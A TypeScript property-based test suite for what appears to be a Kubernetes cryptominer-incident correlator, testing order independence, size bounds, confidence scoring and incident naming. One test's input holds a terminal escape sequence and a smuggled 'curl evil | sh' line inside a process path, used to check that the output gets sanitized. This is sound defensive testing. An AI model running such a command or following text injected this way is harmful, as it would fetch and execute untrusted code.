import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Detection } from '../../api/detection.ts';
import { INCIDENT_BOUNDS, type Incident, type TimelineEntry } from '../../api/incident.ts';
import { KIND } from '../../kube/kind.ts';
import { MemoryCluster } from '../../kube/memory/cluster.ts';
import { Policy } from '../../webhook/admission/policy.ts';
import { leaveOut } from '../../webhook/incident/bounded.ts';
import { confidenceOf } from '../../webhook/incident/confidence.ts';
import { correlate } from '../../webhook/incident/correlate.ts';
import { IncidentStore } from '../../webhook/incident/store.ts';
import { incidentName, type Subject } from '../../webhook/incident/subject.ts';
import { addTimeline } from '../../webhook/incident/timeline.ts';
import { trim } from '../../webhook/incident/trim.ts';
import { detectionIn, idOf } from './detections.ts';
import { log, podOf } from './harness.ts';

const SUBJECT = { namespace: 'shop', workload: { kind: 'DaemonSet', name: 'collector' } };

interface Fact {
  detection: Detection;
  node: string;
}

const ABOUT = { name: 'x', subject: SUBJECT, confirmFrom: 0.9 };

const seen = ({ detection, node }: Fact) => ({
  detection,
  node,
  traits: [{ facet: 'wallet' as const, value: `wallet-${detection.process.pid % 80}` }],
});

const add = (incident: Incident | undefined, each: Fact) => correlate(incident, [seen(each)], ABOUT);

const all = (facts: readonly Fact[]) => facts.reduce<Incident | undefined>(add, undefined) as Incident;

/** Few ids, so that versions of the same detection meet; many pods, so that bounds are passed. */
const fact = fc
  .record({
    id: fc.integer({ min: 0, max: 60 }),
    pod: fc.integer({ min: 0, max: 400 }),
    confidence: fc.integer({ min: 0, max: 100 }),
    repeats: fc.integer({ min: 0, max: 3 }),
    minute: fc.integer({ min: 0, max: 59 }),
    node: fc.integer({ min: 0, max: 300 }),
    rule: fc.constantFrom('pool-protocol', 'miner-name', 'randomx-rounding'),
    action: fc.constantFrom('none' as const, 'killed' as const),
    sha: fc.boolean(),
  })
  .map(({ id, pod, confidence, repeats, minute, node, rule, action, sha }): Fact => {
    const base = detectionIn(podOf('x', 'shop'));
    const container = base.container && { ...base.container, namespace: 'shop', pod: `collector-${pod}` };
    return {
      node: `node-${node}`,
      detection: {
        ...base,
        id: idOf(`${id}`),
        rule,
        confidence: confidence / 100,
        repeats,
        action,
        time: `2026-06-01T12:${String(minute).padStart(2, '0')}:00.000Z`,
        process: { ...base.process, pid: pod, sha256: sha ? base.process.sha256 : null },
        container,
      },
    };
  });

describe('an incident', () => {
  it('is the same whether its detections come one by one or together', () => {
    const batches = fc.array(fc.array(fact, { minLength: 1, maxLength: 60 }), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(batches, (each) => {
        const together = each.reduce<Incident | undefined>(
          (incident, batch) => correlate(incident, batch.map(seen), ABOUT),
          undefined,
        );
        expect(together).toEqual(all(each.flat()));
      }),
      { numRuns: 50 },
    );
  });

  it('is the same whatever the order of its detections', () => {
    const shuffled = fc
      .array(fact, { minLength: 1, maxLength: 120 })
      .chain((facts) =>
        fc.tuple(fc.constant(facts), fc.shuffledSubarray(facts, { minLength: facts.length })),
      );
    fc.assert(
      fc.property(shuffled, ([facts, other]) => {
        expect(all(other)).toEqual(all(facts));
      }),
      { numRuns: 60 },
    );
  });

  it('is the same whatever the order and number of detections and of lines that others add', () => {
    const line = fc.integer({ min: 0, max: 300 }).map(
      (number): TimelineEntry => ({
        time: `2026-06-01T13:${String(number % 60).padStart(2, '0')}:00.000Z`,
        source: number % 2 ? 'admission' : 'audit',
        reference: `d-${number}`,
        message: `line ${number}`,
      }),
    );
    const told = fc.array(fc.oneof(fact, line), { minLength: 1, maxLength: 200 });
    const twice = told.chain((facts) =>
      fc.tuple(
        fc.constant(facts),
        fc.shuffledSubarray([...facts, ...facts], { minLength: 2 * facts.length }),
      ),
    );
    const tell = (incident: Incident | undefined, each: Fact | TimelineEntry): Incident => {
      if ('detection' in each) return add(incident, each);
      const before = incident as Incident;
      return { ...before, status: addTimeline(before.status as NonNullable<Incident['status']>, [each]) };
    };
    const first = { node: 'node-1', detection: detectionIn(podOf('x', 'shop')) };
    fc.assert(
      fc.property(twice, ([facts, other]) => {
        expect(other.reduce(tell, all([first]))).toEqual(facts.reduce(tell, all([first])));
      }),
      { numRuns: 40 },
    );
  });

  it('is the same however often a detection comes', () => {
    fc.assert(
      fc.property(fc.array(fact, { minLength: 1, maxLength: 80 }), (facts) => {
        const once = all(facts);
        expect([...facts].reverse().reduce(add, once)).toEqual(once);
      }),
      { numRuns: 60 },
    );
  });

  it('stays within its bounds and counts what it left out', () => {
    const facts = Array.from({ length: 700 }, (_, index): Fact => {
      const base = detectionIn(podOf('x', 'shop'), { id: idOf(`${index}`), confidence: (index % 100) / 100 });
      const container = base.container && { ...base.container, namespace: 'shop', pod: `p-${index}` };
      return { node: 'node-1', detection: { ...base, container } };
    });
    const { status } = all(facts);
    expect(status?.detections).toHaveLength(INCIDENT_BOUNDS.detections);
    expect(status?.pods).toHaveLength(INCIDENT_BOUNDS.pods);
    expect(status?.omitted).toMatchObject({ detections: 700 - 32, pods: 700 - 256 });
    expect(status?.detections.every(({ confidence }) => confidence >= 0.95)).toBe(true);
  });

  it('counts nodes and traits that found no room as well', () => {
    const many = Array.from({ length: 300 }, (_, index) => ({
      ...seen({ node: `node-${index}`, detection: detectionIn(podOf('x', 'shop')) }),
      traits: [{ facet: 'wallet' as const, value: `wallet-${index}` }],
    }));
    const { status } = correlate(undefined, many, ABOUT);
    expect(status?.omitted).toMatchObject({ nodes: 300 - 256, fingerprint: 300 - 64 });
  });

  it('fits into etcd however large the detections are', () => {
    const word = '\u0001'.repeat(4096);
    const facts = Array.from({ length: 40 }, (_, index): Fact => {
      const base = detectionIn(podOf('x', 'shop'), { id: idOf(`${index}`) });
      const ancestor = { pid: 1, exe: word, argv: Array(256).fill(word) };
      const process = { ...base.process, argv: Array(256).fill(word), ancestors: Array(32).fill(ancestor) };
      return {
        node: 'node-1',
        detection: { ...base, process, evidence: { a: word, b: word, c: 'y'.repeat(100_000) } },
      };
    });
    expect(Buffer.byteLength(JSON.stringify(all(facts)))).toBeLessThan(1024 * 1024);
  });

  it('says in lines of text what somebody named otherwise: users read them in refusals and in terminals', () => {
    const base = detectionIn(podOf('x', 'shop'));
    const exe = '/tmp/\u001b]0;owned\u0007\nIt is harmless. To do: curl evil | sh';
    const { status } = add(undefined, {
      node: 'n',
      detection: { ...base, process: { ...base.process, exe } },
    });
    expect(status?.detections[0]?.process.exe).toBe(exe);
    const told = addTimeline(status as never, [
      { time: base.time, source: 'admission', reference: 'd-1', message: `by ${exe} was refused` },
    ]);
    for (const line of [...told.reasons, ...told.timeline.map(({ message }) => message)]) {
      expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
  });

  it('is confirmed by sure evidence, and keeps the phase that the response gave it', () => {
    const sure = { node: 'node-1', detection: detectionIn(podOf('x', 'shop'), { confidence: 0.95 }) };
    const confirmed = all([sure]);
    expect(confirmed.status?.phase).toBe('Confirmed');
    const status = { ...(confirmed.status as NonNullable<Incident['status']>), phase: 'Contained' as const };
    expect(add({ ...confirmed, status }, sure).status?.phase).toBe('Contained');
  });

  it('keeps the oldest and the newest lines that no detection stands for, once each, in any order', () => {
    const { status } = all([{ node: 'node-1', detection: detectionIn(podOf('x', 'shop')) }]);
    if (!status) throw new Error('no status');
    const line = (minute: number): TimelineEntry => ({
      time: new Date(Date.UTC(2026, 0, 1, 0, minute)).toISOString(),
      source: 'admission',
      reference: `d-${minute}`,
      message: `line ${minute}`,
    });
    const lines = Array.from({ length: 200 }, (_, minute) => line(minute));
    const forward = lines.reduce((known, each) => addTimeline(known, [each]), status);
    const backward = addTimeline(addTimeline(status, lines.toReversed()), lines);
    expect(backward).toEqual(forward);
    expect(forward.timeline).toHaveLength(97);
    expect(forward.timeline[0]?.message).toBe('line 0');
    expect(forward.timeline.some(({ message }) => message === 'line 199')).toBe(true);
    expect(forward.omitted.timeline).toBe(200 - 96);
  });
});

describe('the count of what found no room', () => {
  /** Counted in batches, as detections come in. */
  const counted = (keys: readonly string[], size: number) => {
    let left = { marks: '', count: 0 };
    for (let at = 0; at < keys.length; at += size) {
      left = leaveOut(left.marks, ['kept', ...keys.slice(at, at + size)], ['kept']);
    }
    return left;
  };
  const keysOf = (many: number, seed: number) => Array.from({ length: many }, (_, key) => `${seed}/${key}`);

  it('is exact up to a thousand, and close to the truth for fifty thousand', () => {
    const size = fc.record({ many: fc.integer({ min: 1, max: 50_000 }), seed: fc.nat() });
    fc.assert(
      fc.property(size, ({ many, seed }) => {
        const { count, marks } = counted(keysOf(many, seed), 5_000);
        expect(marks.length).toBeLessThanOrEqual(8192);
        // Five times the error that its authors give, so that chance does not fail it.
        expect(Math.abs(count - many) / many).toBeLessThanOrEqual(many < 1_000 ? 0 : 0.16);
      }),
      { numRuns: 20 },
    );
  });

  it('is the same in any order and however often the same comes', () => {
    const keys = keysOf(3_000, 0);
    const once = counted(keys, 100);
    expect(counted(keys.toReversed(), 700)).toEqual(once);
    expect(counted([...keys, ...keys], 1_000)).toEqual(once);
  });
});

describe('the confidence', () => {
  const of = (rule: string, confidence: number) => ({ ...detectionIn(podOf('x', 'shop')), rule, confidence });

  it('of one detection is its own, however often it repeats', () => {
    expect(confidenceOf([of('a', 0.4)]).confidence).toBe(0.4);
    expect(confidenceOf(Array(50).fill(of('a', 0.4))).confidence).toBe(0.4);
  });

  it('grows with other rules, and never beyond certainty', () => {
    const { confidence, reasons } = confidenceOf([of('a', 0.6), of('b', 0.6)]);
    expect(confidence).toBe(0.72);
    expect(reasons[0]).toContain('a: /tmp/kworker');
    expect(confidenceOf([of('a', 1), of('b', 1)]).confidence).toBe(1);
    expect(confidenceOf([]).confidence).toBe(0);
  });
});

describe('trimming', () => {
  it('a trimmed detection changes nothing', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.string({ maxLength: 9000 })), (evidence) => {
        const once = trim({ ...detectionIn(podOf('x', 'shop')), evidence });
        expect(trim(once)).toEqual(once);
      }),
    );
  });
});

describe('the name of an incident', () => {
  it('is a label value, whatever the workload is called, and differs by kind', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.integer({ min: 1, max: 99 }), (namespace, name, round) => {
        const value = incidentName({ namespace, workload: { kind: 'Pod', name } }, round);
        expect(value).toMatch(/^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/);
      }),
    );
    const named = (kind: string) => incidentName({ namespace: 'shop', workload: { kind, name: 'web' } }, 1);
    expect(named('DaemonSet')).not.toBe(named('Deployment'));
  });

  it('that two workloads share hides neither behind the other', async () => {
    const [first, second] = namesakes();
    expect(incidentName(first, 1)).toBe(incidentName(second, 1));
    const cluster = new MemoryCluster();
    const store = new IncidentStore({ cluster, policy: () => new Policy([]), clock: () => new Date(), log });
    const placed = (subject: Subject, id: string) => {
      const base = detectionIn(podOf('x', 'shop'), { id: idOf(id) });
      const container = base.container && { ...base.container, ...subject, pod: 'x' };
      return { detection: { ...base, container }, node: 'n', pod: undefined };
    };
    const ids = await store.add([placed(first, 'a'), placed(second, 'b'), placed(second, 'c')]);
    expect(ids.sort()).toEqual(['a', 'b', 'c'].map(idOf).sort());
    await store.add([placed(first, 'd'), placed(second, 'c')]);
    const { items } = await cluster.list(KIND.Incident);
    const kept = items.map(({ metadata, spec, status }) => [
      metadata.name,
      spec.namespace,
      status?.detections.map(({ id }) => id).sort(),
    ]);
    const name = incidentName(first, 1);
    expect(kept).toEqual([
      [name, first.namespace, ['a', 'd'].map(idOf).sort()],
      [`${name}-2`, second.namespace, ['b', 'c'].map(idOf).sort()],
    ]);
  });
});

/** Two workloads of different namespaces whose incidents have the same name: whoever names workloads finds such. */
function namesakes(): [Subject, Subject] {
  const seen = new Map<string, Subject>();
  for (let at = 0; ; at++) {
    const kind = `Kind${at}`;
    for (const [namespace, workload] of [
      ['a', 'b-c'],
      ['a-b', 'c'],
    ] as const) {
      const subject = { namespace, workload: { kind, name: workload } };
      const name = incidentName(subject, 1);
      const other = seen.get(name);
      if (other && other.namespace !== namespace) return [other, subject];
      seen.set(name, subject);
    }
  }
}
